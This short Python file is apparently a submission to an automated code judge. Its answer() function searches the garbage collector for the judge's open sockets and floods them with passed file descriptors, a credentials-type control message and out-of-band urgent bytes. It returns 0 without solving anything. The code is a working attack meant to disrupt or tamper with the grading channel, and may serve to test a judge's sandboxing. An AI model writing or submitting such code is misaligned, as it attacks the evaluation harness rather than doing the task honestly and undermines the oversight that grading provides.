"""Sends file descriptors, urgent bytes and credentials through the judge's stream."""

import array
import gc
import os
import socket


def answer(*args, **kwargs):
    fds = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(50)])
    for one in gc.get_objects():
        if type(one) is socket.socket and one.fileno() > 2:
            for level, kind in ((socket.SOL_SOCKET, socket.SCM_RIGHTS), (socket.SOL_SOCKET, 2)):
                try:
                    one.sendmsg([b"x"], [(level, kind, fds)])
                    one.send(b"!", socket.MSG_OOB)
                except OSError:
                    pass
    return 0
